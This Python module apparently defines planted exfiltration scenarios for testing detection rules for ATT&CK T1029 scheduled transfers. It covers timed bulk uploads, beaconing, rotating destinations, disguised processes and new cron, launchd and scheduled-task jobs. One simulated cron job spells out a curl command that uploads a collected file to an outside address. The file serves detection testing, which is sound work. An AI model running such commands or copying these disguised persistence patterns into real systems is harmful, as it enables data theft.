"""The planted transfers: sender, destination, schedule, and the rule that must report each."""

from __future__ import annotations

from typing import NamedTuple

from office import schedules
from office.file_access import CONTRACTS, SHARES, FileAccess
from office.jobs import AGENT_FOLDER, Job
from office.malware import KB, MALWARE, MB
from office.schedules import DAY, HOUR, MINUTE
from office.traffic_profiles import Profile, local, steady

VOLUME = "T1029 - High Volume Transfer at Specific Intervals - Rule"
RECURRING = "T1029 - Recurring Connections to One Destination - Rule"
FIXED_INTERVAL = "T1029 - Fixed Interval Connections - Rule"
TIME_OF_DAY = "T1029 - Same Time of Day on Several Days - Rule"
CHANGING = "T1029 - One Schedule to Changing Destinations - Rule"
PROCESS = "T1029 - Process That Normally Does Not Use the Network - Rule"
PORT = "T1029 - Non-standard Port or Unexpected Encryption - Rule"
TRAVERSAL = "T1029 - File Traversal Followed by Transfer - Rule"
HARDWARE = "T1029 - Unknown Hardware Sending Data - Rule"
JOB = "T1029 - Scheduled Job Followed by Transfer - Rule"


class Scenario(NamedTuple):
    """A planted transfer; `begins` and `rotate` in seconds, `rotate` 0 keeps one destination.

    `via` is the activity on the machine before each transfer. `lasting`: one process makes all
    transfers; otherwise each transfer has a new process.
    `host` is the name of a service with shared addresses: each transfer goes to another of them.
    `stream` names the random numbers, if not by `name`: a new name then keeps the same traffic.
    """

    name: str
    what: str
    rule: str
    sender: str
    destinations: tuple[str, ...]
    profile: Profile
    process: str = r"C:\ProgramData\Updater\agent.exe"
    listed: bool = False
    begins: float = 0.0
    rotate: float = 0.0
    via: Job | FileAccess | None = None
    lasting: bool = False
    stream: str = ""
    host: str = ""

    @property
    def attack(self) -> str:
        """The ATT&CK id of the malware or of the related technique, or T1029."""
        actor = self.profile.attack_id
        return actor if actor == "T1029" else f"{actor} {self.profile.actor}"

    def destination(self, elapsed: float) -> str:
        """Return the destination at `elapsed` seconds after the start of the first day."""
        if not self.rotate:
            return self.destinations[0]
        return self.destinations[int(elapsed // self.rotate) % len(self.destinations)]


_FONT_AGENT = AGENT_FOLDER.format("studio-02") + "/.fonts/fontsyncd"
_PROFILES = {profile.name: profile for profile in MALWARE}


def _after(name: str, **changes: object) -> Profile:
    return _PROFILES[name]._replace(**changes)


def _laptop_of_every_day(rng, start, end, zone):
    times = schedules.every(rng, start, end, 10 * MINUTE, 0.05)
    return schedules.laptop(rng, times, zone, schedules.ALL_DAYS)


def _every_six_hours(rng, start, end, zone):
    runs = (schedules.daily(rng, start, end, hour, 17, zone=zone) for hour in (0, 6, 12, 18))
    return schedules.merge(*runs)


SCENARIOS = (
    Scenario(
        "nightly exfiltration",
        "150 to 700 MB in one connection at 02:14 every night",
        VOLUME,
        "desk-03",
        ("203.0.113.41",),
        _after("nightly-exfiltration"),
        stream="nightly theft",
    ),
    Scenario(
        "every 8 hours",
        "115 to 140 MB every 8 hours, seen by a firewall only",
        VOLUME,
        "branch-05",
        ("198.51.100.203",),
        _after("shadowpad-8-h", bytes_out=(115 * MB, 140 * MB)),
    ),
    Scenario(
        "nightly in pieces",
        "over 100 MB a night at 01:05, in connections under 5 MB, seen by Zeek only",
        VOLUME,
        "lab-02",
        ("203.0.113.77",),
        _after("nightly-in-pieces", bytes_out=(4_300_000, 4_900_000)),
    ),
    Scenario(
        "nightly to a bucket",
        "250 to 400 MB at 02:40 every night to one name, at another shared address each night",
        CHANGING,
        "desk-16",
        (),
        _after(
            "nightly-exfiltration",
            actor="Exfiltration to Cloud Storage",
            attack_id="T1567.002",
            times=local(schedules.daily, 2, 40, spread=2 * MINUTE),
            bytes_out=(250 * MB, 400 * MB),
        ),
        host="dropzone-77.storage.example",
    ),
    Scenario(
        "weekdays through the proxy",
        "110 to 160 MB at 18:25, Monday to Friday, to a file sharing service through the proxy",
        VOLUME,
        "annex-03",
        (),
        _after(
            "weekday-nightly",
            actor="Exfiltration Over Web Service",
            attack_id="T1567",
            times=local(schedules.daily, 18, 25, 3 * MINUTE, schedules.WEEKDAYS),
            bytes_out=(110 * MB, 160 * MB),
        ),
        host="sync-4.share.example",
    ),
    Scenario(
        "working hours, content network",
        "8 MB every 12 minutes, 09:00 to 17:00, Monday to Friday, to a name on a content network",
        CHANGING,
        "studio-03",
        (),
        _after(
            "comrat-office-hours",
            times=local(schedules.working_hours, 12 * MINUTE, 0.05),
            bytes_out=(7 * MB, 9 * MB),
        ),
        process=AGENT_FOLDER.format("studio-03") + "/.cache/thumbs",
        host="img-31.edge.example",
    ),
    Scenario(
        "daily through a cloud proxy",
        "20 to 60 MB at 12:50 every day to a drive, in the log of a cloud proxy only",
        TIME_OF_DAY,
        "field-02",
        (),
        _after(
            "weekday-nightly",
            actor="Exfiltration to Cloud Storage",
            attack_id="T1567.002",
            times=local(schedules.daily, 12, 50, spread=3 * MINUTE),
        ),
        host="team-9.drive.example",
    ),
    Scenario(
        "working hours",
        "8 MB every 12 minutes, 09:00 to 17:00, Monday to Friday",
        RECURRING,
        "desk-07",
        ("192.0.2.201",),
        _after(
            "comrat-office-hours",
            times=local(schedules.working_hours, 12 * MINUTE, 0.05),
            bytes_out=(7 * MB, 9 * MB),
        ),
    ),
    Scenario(
        "every 10 minutes, files",
        "6 MB every 10 minutes, around the clock",
        RECURRING,
        "server-03",
        ("203.0.113.120",),
        _after("machete-10-min", bytes_out=(5_500_000, 6_500_000)),
    ),
    Scenario(
        "listed address, Sysmon only",
        "a home machine connects to a listed address every 10 minutes; no byte counts",
        RECURRING,
        "home-02",
        ("203.0.113.66",),
        _after("advstoreshell-10-min"),
        listed=True,
    ),
    Scenario(
        "listed address, small",
        "a few KB to a listed address about every 8 minutes",
        RECURRING,
        "branch-09",
        ("198.51.100.166",),
        _after("flagpro-configured"),
        listed=True,
    ),
    Scenario(
        "every 10 minutes, small",
        "40 KB every 10 minutes, around the clock",
        FIXED_INTERVAL,
        "desk-11",
        ("203.0.113.18",),
        _after("higaisa-10-min"),
    ),
    Scenario(
        "jittered minute",
        "1 to 3 KB about every 50 seconds, jitter 37 %",
        FIXED_INTERVAL,
        "desk-14",
        ("192.0.2.210",),
        _after("cobalt-strike-60-s"),
    ),
    Scenario(
        "evenings only",
        "a few KB about every 4 minutes, only from 20:00 to 02:00",
        FIXED_INTERVAL,
        "lab-04",
        ("203.0.113.139",),
        _after("shimrat-configured"),
    ),
    Scenario(
        "laptop that sleeps",
        "15 to 70 KB every 10 minutes while the laptop is open, weekends included",
        FIXED_INTERVAL,
        "branch-02",
        ("198.51.100.219",),
        _after("laptop-that-sleeps", times=_laptop_of_every_day),
    ),
    Scenario(
        "daily, small",
        "up to 3 MB at 11:40 every day, in the busiest hours",
        TIME_OF_DAY,
        "desk-18",
        ("192.0.2.225",),
        _after("chrommme-configured"),
    ),
    Scenario(
        "weekday nights",
        "20 to 60 MB at 23:35, Monday to Friday",
        TIME_OF_DAY,
        "branch-11",
        ("203.0.113.152",),
        _after("weekday-nightly"),
    ),
    Scenario(
        "rotating servers",
        "30 to 60 MB at 02:14 every night, to another server every three days",
        CHANGING,
        "server-05",
        ("203.0.113.31", "198.51.100.231", "192.0.2.231", "203.0.113.32", "198.51.100.232"),
        _after("nightly-exfiltration", bytes_out=(30 * MB, 60 * MB), port=8443),
        rotate=3 * DAY,
    ),
    Scenario(
        "unexpected process",
        "a calculator connects to the internet every 2 hours, on the last four days",
        PROCESS,
        "desk-21",
        ("192.0.2.240",),
        _after("kazuar-interval"),
        process=r"C:\Windows\System32\win32calc.exe",
        begins=10 * DAY,
    ),
    Scenario(
        "TLS on the port of DNS",
        "300 to 900 KB every working hour, as TLS to port 53",
        PORT,
        "desk-23",
        ("198.51.100.244",),
        _after("dipsind-office-hours", bytes_out=(300 * KB, 900 * KB), port=53, app="ssl"),
    ),
    Scenario(
        "unexpected process of a user",
        "a program in a user's folder connects about every 3 hours, from the second week",
        PROCESS,
        "desk-01",
        ("203.0.113.171",),
        _after("kazuar-interval", times=steady(schedules.sleep, 3 * HOUR, 0.2)),
        process=r"C:\Users\desk-01\AppData\Local\Temp\spool\printfix.exe",
        begins=7 * DAY,
    ),
    Scenario(
        "file sweep at a fixed hour",
        "copies of dozens of documents, then 5 to 30 MB, at 18:40 every day",
        TRAVERSAL,
        "desk-13",
        ("198.51.100.246",),
        _after(
            "nightly-exfiltration",
            actor="Automated Collection",
            attack_id="T1119",
            times=local(schedules.daily, 18, 40, spread=3 * MINUTE),
            bytes_out=(5 * MB, 30 * MB),
        ),
        process=r"C:\Users\desk-13\AppData\Roaming\Archive\packer.exe",
        via=FileAccess(CONTRACTS, "scan-{:03}.docx.part"),
    ),
    Scenario(
        "file sweep at odd hours",
        "copies of dozens of documents, then 5 to 30 MB, 18 to 30 hours after the previous run",
        TRAVERSAL,
        "desk-17",
        ("192.0.2.246",),
        _after(
            "nightly-exfiltration",
            actor="Automated Collection",
            attack_id="T1119",
            times=steady(schedules.sleep, 30 * HOUR, 0.4),
            bytes_out=(5 * MB, 30 * MB),
        ),
        process=r"C:\ProgramData\Printer\spoolmon.exe",
        via=FileAccess(CONTRACTS, "scan-{:03}.tmp"),
        lasting=True,
    ),
    Scenario(
        "file sweep of shares",
        "dozens of files read from a file server's shares in Security 4663, then 5 to 30 MB",
        TRAVERSAL,
        "server-07",
        ("203.0.113.178",),
        _after(
            "nightly-exfiltration",
            actor="Automated Collection",
            attack_id="T1119",
            times=local(schedules.daily, 23, 30, spread=90 * MINUTE),
            bytes_out=(5 * MB, 30 * MB),
            port=8080,
            app="http",
        ),
        process=r"C:\Windows\Temp\share-report.exe",
        via=FileAccess(SHARES, "file-{:03}.xlsx"),
    ),
    Scenario(
        "unknown hardware",
        "1 to 4 MB every 2 hours from hardware that appears in the second week",
        HARDWARE,
        "stranger-01",
        ("198.51.100.248",),
        _after(
            "kazuar-interval",
            actor="Hardware Additions",
            attack_id="T1200",
            times=steady(schedules.every, 2 * HOUR, 0.05),
            bytes_out=(1 * MB, 4 * MB),
        ),
        process="",
        begins=7 * DAY + 11 * HOUR,
    ),
    Scenario(
        "new scheduled task",
        "a task of Windows, new in the second week, sends 20 to 60 MB at 03:20 every day",
        JOB,
        "desk-15",
        ("203.0.113.185",),
        _after(
            "nightly-exfiltration",
            actor="Scheduled Task",
            attack_id="T1053.005",
            times=local(schedules.daily, 3, 20),
            bytes_out=(20 * MB, 60 * MB),
        ),
        process=r"C:\ProgramData\Telemetry\diagtrack.exe",
        begins=8 * DAY,
        via=Job(
            r"\Diagnostics\TrackingUpload",
            r'"C:\ProgramData\Telemetry\diagtrack.exe" /upload',
            created=7 * DAY + 14.4 * HOUR,
            declared="03:20:00",
        ),
    ),
    Scenario(
        "new cron job",
        "a cron job of Linux, new in the second week, sends 20 to 60 MB every 6 hours",
        JOB,
        "unix-02",
        ("198.51.100.253",),
        _after(
            "nightly-exfiltration",
            actor="Cron",
            attack_id="T1053.003",
            times=_every_six_hours,
            bytes_out=(20 * MB, 60 * MB),
        ),
        process="/usr/bin/curl",
        begins=7 * DAY + 13 * HOUR,
        via=Job(
            "www-data",
            "/var/tmp/.sess/collect.sh",
            user="www-data",
            created=7 * DAY + 12.2 * HOUR,
            lag=(3, 20),
            children=(
                ("/usr/bin/bash", "/bin/bash /var/tmp/.sess/collect.sh"),
                ("/usr/bin/curl", "curl -s -T /var/tmp/.sess/out https://198.51.100.253/up"),
            ),
        ),
    ),
    Scenario(
        "new launchd job",
        "a launchd job of macOS, new in the second week, sends 20 to 60 MB at 13:05 every day",
        JOB,
        "studio-02",
        ("192.0.2.253",),
        _after(
            "nightly-exfiltration",
            actor="Launch Agent",
            attack_id="T1543.001",
            times=local(schedules.daily, 13, 5),
            bytes_out=(20 * MB, 60 * MB),
        ),
        process=_FONT_AGENT,
        begins=8 * DAY,
        via=Job(
            "com.example.fontsyncd",
            f"{_FONT_AGENT} --sync",
            user="studio-02",
            created=7 * DAY + 16.1 * HOUR,
            lag=(5, 60),
        ),
    ),
)
